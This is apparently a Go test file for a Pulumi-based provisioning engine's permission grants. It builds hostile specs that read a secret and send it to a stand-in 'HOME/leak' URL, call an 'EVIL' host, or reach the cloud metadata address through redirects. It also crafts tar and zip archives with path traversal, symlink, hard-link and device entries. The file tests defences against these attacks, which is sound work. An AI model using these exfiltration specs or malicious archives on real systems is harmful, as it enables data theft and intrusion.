package grants

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pulumi/pulumi/sdk/v3/go/common/resource/archive"
	"github.com/pulumi/pulumi/sdk/v3/go/common/resource/asset"
	"github.com/pulumi/pulumi/sdk/v3/go/common/resource/sig"
	"github.com/pulumi/pulumi/sdk/v3/go/property"

	"github.com/declprov/declprov/engine/pulumi/client"
	"github.com/declprov/declprov/engine/pulumi/wire"
)

// doors are the attacks by what is called beside create and import, by what the user
// hands over, by names in templates, and by links.
func doors() map[string]attack {
	path := func(p string) string { return `p: *"` + p + `" | string` }
	secret := `{as: "look", file: read: path: "${inputs.p}"}`
	leak := `{http: {url: "HOME/leak", query: found: "${steps.look.content}"}}`
	asset := `name: string, source: spec.#Asset`
	written := `resources: It: {
	inputs: {` + asset + `}
	id: "${inputs.name}"
	create: file: write: {path: "allowed/${inputs.name}", source: "${inputs.source}"}
}`
	return map[string]attack{
		"names by a list": {
			own, own + `, read: ["OUT/**"]`, `resources: It: {
	inputs: name: string
	id: "${inputs.name}"
	create: file: write: {path: "allowed/${inputs.name}", content: "x"}
	list: {
		file: list: path: "OUT"
		items: "${result.items}"
		id:    "${each.value.path}"
	}
}`, "list", "",
		},
		"another server by a list": {
			own, own + `, hosts: ["EVIL"]`, `config: at: *"EVIL" | string
resources: It: {
	inputs: name: string
	id: "${inputs.name}"
	create: file: write: {path: "allowed/${inputs.name}", content: "x"}
	list: {http: url: "${config.at}/all", items: "${[1]}", id: "${each.value}"}
}`, "list", "",
		},
		"a secret by a method": {
			own, own + `, read: ["OUT/**"]`, methodOf(path("OUT/secret"), `steps: [`+secret+`, `+leak+`]`), "method", "",
		},
		"a file by a method": {
			own, own + `, write: ["OUT/**"]`, methodOf(path("OUT/made"), `file: write: {path: "${inputs.p}", content: "x"}`), "method", "",
		},
		"an argument that widens a grant over inputs": {
			own + `, write: ["${inputs.name}"]`, own + `, write: ["OUT/made"]`, methodOf(`name: *"OUT/made" | string`, `file: write: {path: "${inputs.name}", content: "x"}`), "method", "",
		},
		"a secret by an ephemeral": {
			own, own + `, read: ["OUT/**"]`, `ephemerals: Pass: {
	inputs: {` + path("OUT/secret") + `}
	outputs: {}
	open: {steps: [` + secret + `, ` + leak + `], return: {}}
}`, "openPass", "",
		},
		"a file by the close of an ephemeral": {
			own, own + `, write: ["OUT/**"]`, `ephemerals: Pass: {
	inputs: {` + path("OUT/made") + `}
	outputs: {}
	open: {file: write: {path: "allowed/pass", content: "x"}, return: {}}
	close: file: write: {path: "${inputs.p}", content: "x"}
}`, "openPass", "",
		},
		"a secret by a find": {
			own, own + `, read: ["OUT/**"]`, `resources: It: {
	inputs: {name: string, ` + path("OUT/secret") + `}
	id: "${inputs.name}"
	create: http: {url: "HOME/x", method: "POST", effect: "write"}
	find: {steps: [` + secret + `, ` + leak + `], return: null}
}`, "", "",
		},
		"another server by a find": {
			own, own + `, hosts: ["EVIL"]`, `resources: It: {
	inputs: {name: string, ` + path("EVIL") + `}
	id: "${inputs.name}"
	create: http: {url: "HOME/x", method: "POST", effect: "write"}
	find: {http: url: "${inputs.p}/x", return: null}
}`, "", "",
		},
		"a proxy of the environment": {
			own, own + `, hosts: ["EVIL"]`, written, "asset http://0.0.0.0:HOMEPORT/asset", "http://0.0.0.0",
		},
		"a proxy of the environment, after a redirect": {
			own, own + `, hosts: ["EVIL"]`, written, "asset HOME/moved", "http://0.0.0.0",
		},
		// EVIL is granted as the proxy here, and is what answers for every name.
		"this machine by the redirect of an asset": {
			asProxy, asProxy + `, hosts: ["HOME"]`, written, "asset http://files.test/here", "nothing",
		},
		"metadata by the redirect of an asset": {
			asProxy, asProxy + `, hosts: ["http://169.254.169.254"]`, written, "asset http://files.test/metadata", "169.254.169.254",
		},
		"an archive unpacked elsewhere": {
			own, own + `, write: ["OUT/**"]`, unpacked("OUT"), "archive pack.tar", "",
		},
		"an archive unpacked through a link": {
			own, own + `, write: ["OUT/**"]`, unpacked("allowed/link"), "archive pack.tar", "",
		},
		"an archive with a file through a link": {
			own, own + `, write: ["OUT/**"]`, unpacked("allowed"), "archive linked.tar", "",
		},
		"what an archive lacks": {
			own, own + `, write: ["OUT/**"]`, strings.Replace(unpacked("allowed/link"), "overwrite: true", "exact: true", 1), "archive none.tar", "",
		},
		"a hard link that a command makes": {
			own + `, run: ["/bin/ln"]`, own + `, run: ["/bin/ln"], write: ["OUT/**"]`, thing(path("OUT/secret"), `steps: [
				{exec: command: ["/bin/ln", "${inputs.p}", "allowed/hard"]},
				{as: "look", file: read: path: "allowed/hard"},
				{http: {url: "HOME/leak", query: found: "${steps.look.content}", effect: "none"}},
			]`), "", "",
		},
		"a host made of values": {
			own, own + `, hosts: ["EVIL"]`, thing(`host: *"127.0.0.1" | string, port: *"PORT" | string`, `http: {url: "http://${inputs.host}:${inputs.port}/x", effect: "write"}`), "", "",
		},
		"a base made of values": {
			own, own + `, hosts: ["EVIL"]`, thing(path("EVIL"), `http: {baseURL: "${inputs.p}", path: "/x", effect: "write"}`), "", "",
		},
		"a path made of segments": {
			own, own + `, write: ["OUT/**"]`, thing(path("allowed/../../out/made"), `file: write: {path: "${join(split(inputs.p, \"/\"), \"/\")}", content: "x"}`), "", "",
		},
		"a path with a value that climbs": {
			own, own + `, write: ["OUT/**"]`, thing(path("../../out/made"), `file: write: {path: "allowed/${inputs.p}", content: "x"}`), "", "",
		},
		"a root made of values": {
			own, own + `, write: ["OUT/**"]`, thing(path("OUT"), `file: write: {root: "${inputs.p}", path: "made", content: "x"}`), "", "",
		},
	}
}

// asProxy grants the proxy of the environment.
const asProxy = `write: ["allowed/**"], hosts: ["EVIL"]`

func methodOf(inputs, operation string) string {
	return `resources: It: {
	inputs: name: string
	id: "${inputs.name}"
	create: file: write: {path: "allowed/${inputs.name}", content: "x"}
	methods: go: {
		inputs: {` + inputs + `}
		outputs: {}
		` + operation + `
		return: {}
	}
}`
}

func unpacked(at string) string {
	return `resources: It: {
	inputs: {name: string, source: spec.#Archive, p: *"` + at + `" | string}
	id: "${inputs.name}"
	create: file: unpack: {path: "${inputs.p}", archive: "${inputs.source}", overwrite: true}
}`
}

// TestHostileDoors is TestHostileSpecs for what is called, handed over, written in
// templates or linked.
func TestHostileDoors(t *testing.T) {
	t.Parallel()
	playAll(t, doors())
}

// TestUngrantedProxyIsTold: a download that fails without the environment's proxy says that
// there is one, and does not show its password.
func TestUngrantedProxyIsTold(t *testing.T) {
	t.Parallel()
	s := newScene(t, doors()["a proxy of the environment"], false)
	proxy := strings.Replace(s.evil.URL, "://", "://me:hunter2@", 1)
	d := serve(t, s.spec, s.dir, nil, "HTTP_PROXY="+proxy, "http_proxy="+proxy)
	_, said := d.made(it(), s.handed("asset", "http://0.0.0.0:1/asset"))
	if !strings.Contains(said, s.evil.URL) || strings.Contains(said, "hunter2") {
		t.Error(said)
	}
	if s.evil.connected.Load() > 0 {
		t.Error("the proxy was asked")
	}
}

// handed are the inputs of a create: its name, and what the user hands over.
func (s *scene) handed(door, what string) map[string]property.Value {
	s.Helper()
	inputs := map[string]property.Value{"name": property.New("it")}
	switch door {
	case "asset":
		// asset.FromURI would download it here, past what is tested.
		inputs["source"] = property.New(&asset.Asset{Sig: sig.AssetSig, URI: what, Hash: strings.Repeat("0", 64)})
	case "archive":
		at := filepath.Join(s.T.TempDir(), what)
		if err := os.WriteFile(at, packed(s.T, what, s.out), 0o600); err != nil {
			s.Fatal(err)
		}
		a, err := archive.FromPath(at)
		if err != nil {
			s.Fatal(err)
		}
		inputs["source"] = property.New(a)
	}
	return inputs
}

// it is the resource that attacks.
func it() client.Resource { return client.Resource{Type: "hostile:index:It", Name: "it"} }

// made creates a resource, and returns what was said where that fails.
func (d *desk) made(it client.Resource, inputs map[string]property.Value) (client.State, string) {
	d.Helper()
	checked, err := d.Check(d.Context(), it, property.Map{}, property.NewMap(inputs))
	if err != nil || len(checked.Failures) > 0 {
		return client.State{}, fmt.Sprint(checked.Failures, err)
	}
	made, err := d.Create(d.Context(), it, checked.Inputs, client.Operation{})
	return made, fmt.Sprint(err)
}

// method calls the method go of a resource that was made.
func (d *desk) method(it client.Resource, made client.State) string {
	d.Helper()
	m, err := client.StartMonitor()
	if err != nil {
		d.Fatal(err)
	}
	d.Cleanup(m.Stop)
	outputs, err := wire.Encoder{}.Encode(made.Outputs)
	if err != nil {
		d.Fatal(err)
	}
	m.Record(d.URN(it), made.ID, outputs)
	called, err := d.Call(d.Context(), it, client.Call{Method: "go", Monitor: m.Address()})
	return fmt.Sprint(called.Failures, err)
}

// packed is an archive by its name: NAME.tar, or NAME.zip of the same files.
func packed(t *testing.T, name, out string) []byte {
	t.Helper()
	header := map[string][]tar.Header{
		"pack":   {{Name: "made"}},
		"none":   {{Name: "other"}},
		"linked": {{Name: "link/made"}},
		// Those below are refused whatever is granted.
		"found":     {{Name: "found"}},
		"hardly":    {{Name: "hard"}},
		"dots":      {{Name: "../../out/made"}},
		"absolute":  {{Name: out + "/made"}},
		"middle":    {{Name: "a/../../../out/made"}},
		"backslash": {{Name: `..\..\out\made`}},
		"nul":       {{Name: "../../out/made\x00found"}},
		"symlink":   {{Name: "mine", Typeflag: tar.TypeSymlink, Linkname: out}, {Name: "mine/made"}},
		"hard":      {{Name: "found", Typeflag: tar.TypeLink, Linkname: out + "/secret"}},
		"through":   {{Name: "mine", Typeflag: tar.TypeLink, Linkname: "../../out/secret"}, {Name: "mine"}},
		"device":    {{Name: "found", Typeflag: tar.TypeChar, Devmajor: 1, Devminor: 3}},
		"twice":     {{Name: "link"}, {Name: "link/made"}},
	}[strings.TrimSuffix(name, filepath.Ext(name))]
	if header == nil {
		t.Fatalf("there is no %s", name)
	}
	pack := tarOf
	if filepath.Ext(name) == ".zip" {
		pack = zipOf
	}
	content, err := pack(header)
	if err != nil {
		t.Fatal(err)
	}
	return content
}

const canaryPacked = "canary, packed"

func tarOf(headers []tar.Header) ([]byte, error) {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, h := range headers {
		text := canaryPacked
		if h.Typeflag != 0 {
			text = ""
		}
		h.Mode, h.Size = 0o644, int64(len(text))
		if err := w.WriteHeader(&h); err != nil {
			return nil, err
		}
		if _, err := io.WriteString(w, text); err != nil {
			return nil, err
		}
	}
	err := w.Close()
	return b.Bytes(), err
}

// zipOf packs links and devices as zip files have them: by their mode, a link's target
// as its content.
func zipOf(headers []tar.Header) ([]byte, error) {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, h := range headers {
		text, mode := canaryPacked, fs.FileMode(0o644)
		switch h.Typeflag {
		case tar.TypeSymlink, tar.TypeLink:
			text, mode = h.Linkname, fs.ModeSymlink|0o777
		case tar.TypeChar:
			text, mode = "", fs.ModeDevice|fs.ModeCharDevice|0o644
		}
		as := &zip.FileHeader{Name: h.Name, Method: zip.Deflate}
		as.SetMode(mode)
		content, err := w.CreateHeader(as)
		if err != nil {
			return nil, err
		}
		if _, err := io.WriteString(content, text); err != nil {
			return nil, err
		}
	}
	err := w.Close()
	return b.Bytes(), err
}
